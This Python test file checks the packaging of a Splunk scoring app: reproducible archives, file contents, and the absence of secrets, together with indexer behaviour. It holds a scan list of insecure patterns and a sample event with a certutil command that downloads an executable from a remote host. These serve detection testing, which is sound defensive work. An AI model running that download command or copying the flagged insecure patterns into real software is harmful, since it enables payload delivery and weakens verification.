"""The package: reproducible, complete, and nothing in it that does not belong."""
import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile

import confs
import pytest
from app_searches import LOG_FIELDS
from conftest import build

TEXT = {".py", ".conf", ".xml", ".html", ".json", ".md", ".txt", ".toml", ".meta", ".spec", ".yml", ".yaml", ".csv",
        ".js", ".css", ".service", ".manifest", ""}


def texts(folder):
    """(path inside the app, text) of every shipped file that people can read."""
    for path in sorted(folder.rglob("*")):
        if path.is_file() and path.suffix in TEXT:
            yield path.relative_to(folder).as_posix(), path.read_text(encoding="utf-8")


def test_two_builds_give_one_digest(package, tmp_path):
    again, printed = build(tmp_path, umask=0o077, TZ="Asia/Tokyo", LC_ALL="C.UTF-8")
    digests = {hashlib.sha256(path.read_bytes()).hexdigest() for path in (package, again)}
    assert len(digests) == 1
    assert f"sha256 {digests.pop()}" in printed
    assert f"bytes  {again.stat().st_size}" in printed


def test_time_of_the_files_is_the_one_asked_for(package, tmp_path):
    other, _ = build(tmp_path, SOURCE_DATE_EPOCH="1700000000")
    with tarfile.open(package) as ours, tarfile.open(other) as theirs:
        assert {member.mtime for member in ours} == {1767225600}
        assert {member.mtime for member in theirs} == {1700000000}


def test_archive_has_one_top_folder_plain_modes_and_no_owner(package):
    with tarfile.open(package) as archive:
        members = archive.getmembers()
        assert archive.format == tarfile.USTAR_FORMAT or not archive.pax_headers
    assert {member.name.split("/")[0] for member in members} == {"aiscore"}
    assert {(member.uid, member.gid, member.uname, member.gname) for member in members} == {(0, 0, "", "")}
    assert {member.mode for member in members if member.isdir()} == {0o755}
    assert {member.mode for member in members if member.isfile()} == {0o644}
    assert all(member.isdir() or member.isfile() for member in members)
    names = [member.name for member in members]
    assert len(names) == len(set(names))
    assert [name for name in names if "/" not in name.removeprefix("aiscore/")] == sorted(
        name for name in names if "/" not in name.removeprefix("aiscore/"))


def test_gzip_header_holds_no_name_and_no_time(package):
    assert package.read_bytes()[:8] == b"\x1f\x8b\x08\x00\x00\x00\x00\x00"


def test_nothing_is_shipped_that_only_developers_need(unpacked):
    names = [path.relative_to(unpacked).as_posix() for path in unpacked.rglob("*")]
    bad = [name for name in names if re.search(
        r"(^|/)(tests?|build|dist|local|node_modules|__pycache__|\.[^/]*)(/|$)|\.(pyc|pyo|so|pem|key|pkl|pickle|joblib)$"
        r"|^(package\.sh|Makefile|ui|scorer/aiscore_trainer/development)(/|$)|(^|/)(test_[^/]*|conftest)\.py$", name)]
    assert bad == []


@pytest.mark.parametrize("name", [
    "app.manifest", "LICENSE", "default/app.conf", "default/commands.conf", "default/aiscore.conf", "metadata/default.meta",
    "README/aiscore.conf.spec", "static/appIcon.png", "static/appIcon_2x.png", "lib/aiscore_contract/ticket.py",
    "default/data/ui/views/aiscore_overview.xml", "pyproject.toml", "scorer/adapters/bundle.safetensors",
])
def test_package_holds(unpacked, name):
    assert (unpacked / name).is_file()


def test_pages_that_the_package_names_are_in_it(unpacked):
    pages = [unpacked / "README.md", *(unpacked / "docs").rglob("*.md")]
    named = {(page.parent / link).resolve() for page in pages for link in re.findall(r"\]\(([^)#:]+)(?:#[^)]*)?\)", page.read_text("utf-8"))}
    named |= {unpacked / found for found in re.findall(r"/opt/aiscore/(docs/\S+)", (unpacked / "deploy/aiscore-scorer.service").read_text())}
    assert len(pages) > 5 and named and [str(page) for page in named if not page.exists()] == []


def test_package_holds_every_module_of_the_tree(unpacked):
    for folder in ("bin", "lib", "scorer"):
        there = {path.relative_to(confs.APP).as_posix() for path in (confs.APP / folder).rglob("*.py")}
        shipped = {path.relative_to(unpacked).as_posix() for path in (unpacked / folder).rglob("*.py")}
        made_up = "scorer/aiscore_trainer/development/"
        assert {name for name in there - shipped if "__pycache__" not in name and not name.startswith(made_up)} == set()


def test_trainer_of_the_package_says_that_it_has_no_sites_made_up_for_development(unpacked):
    environment = {"PATH": os.environ["PATH"], "PYTHONPATH": f"{unpacked / 'scorer'}:{unpacked / 'lib'}", "PYTHONDONTWRITEBYTECODE": "1"}
    done = subprocess.run([sys.executable, "-m", "aiscore_trainer", "development"], capture_output=True, text=True, env=environment)
    assert done.returncode != 0 and "Traceback" not in done.stderr
    assert "not part of the app's package" in done.stderr


def test_package_holds_every_file_of_the_bundle(unpacked):
    there = {path.name for path in (confs.APP / "scorer/bundle").glob("*")}
    if not there:
        pytest.skip("there is no bundle yet")
    assert {path.name for path in (unpacked / "scorer/bundle").glob("*")} == there


def test_package_stays_small_enough_for_splunkbase_and_cloud(package):
    assert package.stat().st_size < 60 * 1024 * 1024


def test_bundle_that_ships_is_within_its_bound(unpacked):
    if not (unpacked / "scorer/bundle").is_dir():
        pytest.skip("there is no bundle yet")
    assert sum(path.stat().st_size for path in (unpacked / "scorer/bundle").rglob("*") if path.is_file()) < 25 * 1024 * 1024
    manifest = json.loads((unpacked / "scorer/bundle/manifest.json").read_text())
    assert manifest


# -- what AppInspect does not notice ---------------------------------------------------------------

#: Pattern and what it would mean. Looked for in everything that people can read.
FORBIDDEN = {
    r"CERT_NONE": "a certificate is not verified",
    r"check_hostname\s*=\s*False": "a host name is not verified",
    r"_create_unverified_context": "a certificate is not verified",
    r"verify(_ssl|_mode)?\s*[=:]\s*(False|false|0)\b": "verification is turned off",
    r"(?m)^\s*verify\w*\s*=\s*(false|0|no)\s*$": "verification is turned off by a setting",
    r"-----BEGIN [A-Z ]*PRIVATE KEY-----": "a private key",
    r"""(?i)\b(password|passwd|secret|api_?key|auth_?token|private_key)\b\s*[=:]\s*["'](?=[^"']*\d)[^"'{}<>«»$\s]{12,}["']""": "a secret",
    r"(?m)^\s*[A-Za-z0-9_-]{1,32} [0-9a-fA-F]{64}\s*$": "a key of a key file",
    r"\bpickle\.loads?\(|\bjoblib\.load\(|\bmarshal\.loads?\(": "code loaded from data",
    r"\beval\((?!\w*\s*==)[^)]*\brequest": "code run from a request",
    r"\bshell\s*=\s*True": "a shell",
    r"\bos\.system\(": "a shell",
    r"\b(AKIA|ASIA)[0-9A-Z]{16}\b": "a cloud access key",
}
#: Rules and scenarios quote what attackers type: texts that are looked for, not settings of ours.
QUOTES_ATTACKS = ("rules/", "lib/aiscore_rules/pack/", "scorer/bundle/rules.json", "scorer/aiscore_trainer/scenarios/")


def findings(name, text):
    if name.startswith(QUOTES_ATTACKS):
        return []
    return [f"{name}: {meaning}: {match[0][:60]!r}" for pattern, meaning in FORBIDDEN.items()
            for match in re.finditer(pattern, text)]


def test_package_holds_no_secret_and_verifies_every_certificate(unpacked):
    assert [found for name, text in texts(unpacked) for found in findings(name, text)] == []


@pytest.mark.parametrize("text", [
    "context.verify_mode = ssl.CERT_NONE", "context.check_hostname = False", "requests.get(url, verify=False)",
    "verify_tls = false", "-----BEGIN EC PRIVATE KEY-----", 'password = "hunter2hunter2"', "k1 " + "ab" * 32,
    "pickle.load(open(path))", "subprocess.run(line, shell=True)", "AKIA" + "A1B2C3D4E5F6G7H8",
])
def test_scan_sees(text):
    assert findings("lib/x.py", text)


def test_package_names_no_folder_of_the_machine_that_built_it(unpacked):
    assert [name for name, text in texts(unpacked) if str(confs.APP) in text] == []


def test_rule_pack_that_ships_is_the_one_compiled_from_the_rules(unpacked, tmp_path):
    pytest.importorskip("sigma")
    done = subprocess.run([sys.executable, "-m", "aiscore_trainer", "rules", "compile", str(confs.APP / "rules"),
                           "-o", str(tmp_path / "aiscore.json"), "--strict"], capture_output=True, text=True, cwd=confs.APP,
                          env={**os.environ, "PYTHONPATH": "lib:scorer"}, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    compiled, shipped = (json.loads(path.read_text()) for path in (
        tmp_path / "aiscore.json", unpacked / "lib/aiscore_rules/pack/aiscore.json"))
    assert compiled == shipped


# -- what an indexer gets --------------------------------------------------------------------------

def chunk(metadata, body=b""):
    head = json.dumps(metadata).encode()
    return b"chunked 1.0,%d,%d\n" % (len(head), len(body)) + head + body


def replies(stream):
    """(metadata, body) of every reply in `stream`."""
    found = []
    while stream:
        head, _, stream = stream.partition(b"\n")
        metadata, body = map(int, re.fullmatch(rb"chunked 1\.0,(\d+),(\d+)", head).groups())
        found.append((json.loads(stream[:metadata]), stream[metadata:metadata + body].decode()))
        stream = stream[metadata + body:]
    return found


@pytest.fixture
def search_bundle(unpacked, tmp_path):
    """What splunkd's search bundle brings to an indexer: bin/, lookups/, and by our allow-list lib/."""
    app = tmp_path / "aiscore"
    for folder in ("bin", "lib", "lookups"):
        if (unpacked / folder).is_dir():
            shutil.copytree(unpacked / folder, app / folder)
    return app


def interpreter_of(version):
    """A Python of `version`, such as runs inside Splunk."""
    places = (confs.APP / "build/venv" / f"search-{version}", confs.APP / "build/venv" / f"py{version.replace('.', '')}")
    for place in places:
        if (place / "bin/python").exists():
            return place / "bin/python"
    pytest.skip(f"there is no Python {version}: make search-environments")


def run_command(app, arguments, version, folder, **environment):
    """What the command in `app` replies to two events, as (metadata, body) pairs."""
    searchinfo = {"args": arguments, "raw_args": arguments, "sid": "remote_1", "command": "aiscore", "app": "aiscore",
                  "splunk_version": "9.4.0", "owner": "analyst", "username": "analyst", "dispatch_dir": str(folder),
                  "maxresultrows": 50000}
    body = (b'_chunked_idx,_raw\n0,"certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe"\n'
            b'1,"user logged in"\n')
    asked = chunk({"action": "getinfo", "preview": False, "searchinfo": searchinfo})
    asked += chunk({"action": "execute", "finished": True}, body)
    done = subprocess.run([str(interpreter_of(version)), str(app / "bin/aiscore.py")], input=asked, capture_output=True,
                          env={"PATH": "/usr/bin:/bin", **environment}, cwd=folder, timeout=60, check=False)
    assert (done.returncode, done.stderr) == (0, b"")
    return replies(done.stdout)


@pytest.mark.parametrize("version", ["3.9", "3.13"])
def test_rules_score_on_an_indexer_with_nothing_but_the_search_bundle(search_bundle, version, tmp_path):
    (info, _), (_, scored) = run_command(search_bundle, ["field=_raw", "mode=rules"], version, tmp_path)
    assert info["type"] == "streaming"
    rows = list(csv.DictReader(io.StringIO(scored)))
    assert [row["ai_source"] for row in rows] == ["rules", "rules"]


@pytest.mark.parametrize("version", ["3.9", "3.13"])
def test_log_line_of_a_search_has_the_fields_that_searches_and_dashboards_read(unpacked, version, tmp_path):
    app = tmp_path / "etc/apps/aiscore"
    shutil.copytree(unpacked, app, ignore=shutil.ignore_patterns("scorer"))
    (app / "local").mkdir()
    (app / "local/aiscore.conf").write_text("[scorer]\nurl = https://127.0.0.1:1\n")
    (tmp_path / "var/log/splunk").mkdir(parents=True)
    run_command(app, ["field=_raw"], version, tmp_path, SPLUNK_HOME=str(tmp_path))
    lines = [json.loads(line) for line in (tmp_path / "var/log/splunk/aiscore.log").read_text().splitlines()]
    summary = [line for line in lines if line["event"] == "search"]
    assert len(summary) == 1
    assert (summary[0]["rows"], summary[0]["fallback_rows"], summary[0]["reason"]) == (2, 2, "unreachable")
    assert set(summary[0]) == LOG_FIELDS
